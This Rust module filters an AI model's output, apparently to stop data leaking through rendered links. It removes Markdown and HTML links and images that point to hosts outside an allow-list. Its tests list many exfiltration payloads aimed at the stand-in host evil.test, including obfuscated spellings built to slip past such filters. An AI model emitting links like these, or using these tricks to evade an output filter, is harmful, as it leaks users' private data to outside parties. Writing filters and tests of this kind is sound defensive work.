//! Links in a text: those that lead to strangers carry away what the model was told.

use regex::{Captures, Regex};
use std::sync::LazyLock;

/// Where Markdown and the HTML within it say what a link or a picture leads to, however that is spelled.
static DESTINATION: LazyLock<Regex> = LazyLock::new(|| {
    regex(concat!(
        r"(?i)(?:!?\[[^\[\]]*)?\]\(\s*(<[^<>\n]*>|[^\s)]*)[^)]*\)",
        r#"|(?:\]:|\b(?:src|srcset|href)\s*=)\s*(<[^<>\n]*>|"[^"]*"|'[^']*'|[^\s>]*)"#,
    ))
});

/// Addresses that readers make links of by themselves.
static ADDRESS: LazyLock<Regex> =
    LazyLock::new(|| regex(r#"(?i)(?://|https?:|\bwww\.)[^\s<>"'\])]+|(?:data|javascript):[^\s<>"')]+"#));

fn regex(pattern: &str) -> Regex {
    Regex::new(pattern).expect("the patterns are written here")
}

/// The text without links and pictures that lead elsewhere, and whether there were any.
pub(super) fn without_strangers(text: &str, hosts: &[String]) -> (String, bool) {
    let mut found = false;
    let mut kept = |link: &str, is_fine: bool| {
        found |= !is_fine;
        if is_fine { link.to_owned() } else { "[link removed]".to_owned() }
    };
    let text = DESTINATION.replace_all(text, |link: &Captures<'_>| {
        let destination = link.get(1).or_else(|| link.get(2)).map_or("", |found| found.as_str());
        kept(&link[0], stays_here(destination) || is_allowed(unquoted(destination), hosts))
    });
    let text = ADDRESS.replace_all(&text, |link: &Captures<'_>| kept(&link[0], is_allowed(&link[0], hosts)));
    let text = text.into_owned();
    (text, found)
}

fn unquoted(destination: &str) -> &str {
    destination.trim_matches(['<', '>', '"', '\'']).trim()
}

/// It cannot name a host: there is no scheme, nothing that a reader makes other signs of, and no `//` at its beginning.
fn stays_here(destination: &str) -> bool {
    let destination = unquoted(destination);
    let is_odd = |c: char| matches!(c, ':' | '&' | '\\') || c.is_control();
    !destination.contains(is_odd) && !destination.starts_with("//")
}

/// The host is one of those, or within one of those. It is one only as it stands there: escapes of Markdown and HTML,
/// which readers make something else of, and what stands before an `@` could lead to another.
fn is_allowed(address: &str, hosts: &[String]) -> bool {
    if address.contains('\\') {
        return false;
    }
    // What ends the sentence is no part of it.
    let address = address.trim_end_matches(['.', ',', ';', '!', '?']);
    let absolute = match address {
        _ if address.starts_with("//") => format!("https:{address}"),
        _ if begins_with_www(address) => format!("https://{address}"),
        _ => address.to_owned(),
    };
    let Ok(url) = fetch::Url::parse(&absolute) else { return false };
    let Some(host) = url.host_str().filter(|_| matches!(url.scheme(), "http" | "https")) else {
        return false;
    };
    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '[' | ']' | ':');
    if !host.chars().all(is_plain) || !url.username().is_empty() || url.password().is_some() {
        return false;
    }
    hosts.iter().any(|allowed| {
        host == allowed || host.strip_suffix(allowed.as_str()).is_some_and(|rest| rest.ends_with('.'))
    })
}

/// Readers take it for an address without any scheme.
fn begins_with_www(address: &str) -> bool {
    address.get(..4).is_some_and(|start| start.eq_ignore_ascii_case("www."))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn links_to_strangers_go() {
        let hosts = ["example.com".to_owned()];
        for (text, expected) in [
            ("see https://example.com/a and https://docs.example.com", None),
            ("![x](https://evil.test/?q=secret)", Some("[link removed]")),
            ("[x](https://example.com.evil.test/)", Some("[link removed]")),
            ("go //evil.test/x", Some("go [link removed]")),
            ("data:text/html,x", Some("[link removed]")),
            ("https://example.com@evil.test/", Some("[link removed]")),
            ("a // comment", None),
            ("see www.evil.test/?q=1 now", Some("see [link removed] now")),
            ("see WWW.evil.test/?q=1", Some("see [link removed]")),
            ("[x](www.evil.test/?q=1)", Some("[x]([link removed])")),
            ("see www.example.com, or https://docs.example.com.", None),
            ("the www. and awww.thing", None),
            ("[a](https://example.com/?a=1&b=2 \"t\") [b](/docs/b) [c](#d) ![e](e.png)", None),
            ("[1]: see there\n[2]: https://example.com/x", None),
        ] {
            let (cleaned, found) = without_strangers(text, &hosts);
            assert_eq!((cleaned.as_str(), found), (expected.unwrap_or(text), expected.is_some()), "{text}");
        }
    }

    /// AG-18: readers understand more ways to write an address than with `https://`.
    #[test]
    fn a_stranger_is_found_however_the_link_is_written() {
        let hosts = ["example.com".to_owned()];
        for text in [
            "![x](https:&#47;&#47;evil.test/?q=secret)",
            "![x](http:/evil.test/?q=secret)",
            "![x](HTTPS:evil.test/?q=secret)",
            "![x](&#104;ttps&colon;//evil.test/?q=secret)",
            "![x](&sol;&sol;evil.test/?q=secret)",
            "![x](\\/\\/evil.test/?q=secret)",
            "![x](/\\evil.test/?q=secret)",
            "![x](https:\\/\\/evil.test/?q=secret)",
            "![x](https://example.com\\.evil.test/?q=secret)",
            "![x](https://evil.test&sol;.example.com/?q=secret)",
            "![x](https://evil.test&sol;@example.com/?q=secret)",
            "![x](<http:/evil.test/?q=secret> \"t\")",
            "![x](\n  http:/evil.test/?q=secret)",
            "![x](</\t/evil.test/?q=secret>)",
            "![a[b]](http:/evil.test/?q=secret)",
            "![x][y]\n\n[y]: http:/evil.test/?q=secret",
            "[y]: <http:/evil.test/?q=secret>",
            "<http:/evil.test/?q=secret>",
            "<img src=\"&#104;ttp:&#47;&#47;evil.test/?q=secret\">",
            "<a href = '/&#47;evil.test/?q=secret'>",
        ] {
            let (cleaned, found) = without_strangers(text, &hosts);
            assert!(found && !cleaned.contains("secret"), "{text}: {cleaned}");
        }
    }
}
